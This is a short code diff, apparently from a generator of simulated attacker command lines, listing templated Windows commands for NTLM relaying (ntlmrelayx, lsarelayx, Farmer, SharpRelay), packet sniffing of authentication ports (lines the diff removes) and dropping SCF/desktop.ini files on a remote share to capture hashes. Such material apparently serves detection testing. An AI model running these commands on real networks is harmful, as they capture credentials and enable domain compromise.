@@ -186,9 +186,5 @@ python.exe ntlmrelayx.py -t ldaps://@dc@ --delegate-access -smb2support
 @tmp@lsarelayx.exe --host @ip@
 @tmp@Farmer.exe 8888 60 C:\ProgramData\@word@.log
 @tmp@SharpRelay.exe & @tmp@StreamDivert.exe @tmp@config.txt
-netsh trace start capture=yes tracefile=C:\Users\Public\@word@.etl maxsize=200 overwrite=yes & timeout 600 & netsh trace stop
-pktmon start --etw -f C:\Windows\Temp\@word@.etl & pktmon filter add -p 445
-@tmp@windump.exe -i 1 -w C:\ProgramData\@word@.pcap port 21 or port 110
-@tmp@tshark.exe -i 5 -w @tmp@@word@.pcapng -f "port 88 or port 389"
 powershell -c "Find-InterestingFile; Copy-Item .\@word@.scf \\@host@\share\; Copy-Item .\desktop.ini \\@host@\share\"
 """, parents=ANYBODY, users=(None, "SYSTEM"), most=2)
